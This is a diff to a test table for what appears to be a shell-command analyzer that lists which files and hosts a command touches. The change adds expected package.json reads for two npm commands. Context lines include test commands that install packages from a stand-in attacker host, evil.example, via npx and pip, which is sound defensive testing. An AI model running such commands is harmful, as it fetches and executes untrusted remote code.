@@ -65,7 +65,7 @@ const CASES: [string, string[]][] = [
   ['cp --target-dir=.github src/a', ['write .github tree:named', 'read src/a']],
   ['git add -A', ['read .']],
   ['make -C secrets test', ['read secrets']],
-  ['npm run build/x', []],
+  ['npm run build/x', ['read package.json guess']],
   ['npx prettier --write src/a.ts', ['read src/a.ts guess']],
   ['npx https://evil.example/x.tgz src/a.ts', ['host https://evil.example/x.tgz']],
   ["pip install 'x @ https://evil.example/x.whl' requests==2", ['host https://evil.example/x.whl']],
@@ -174,7 +174,7 @@ const CASES: [string, string[]][] = [
   ['uv pip install --index-url https://idx.example x', ['host https://idx.example']],
   // programs that touch nothing by their operands
   ['echo secrets/key', []],
-  ['npm test -- $X', []],
+  ['npm test -- $X', ['read package.json guess']],
   ['node script.js arg', ['read script.js']],
   ['python -m pytest tests', []],
   ['make -f build.mk all', ['read build.mk']],
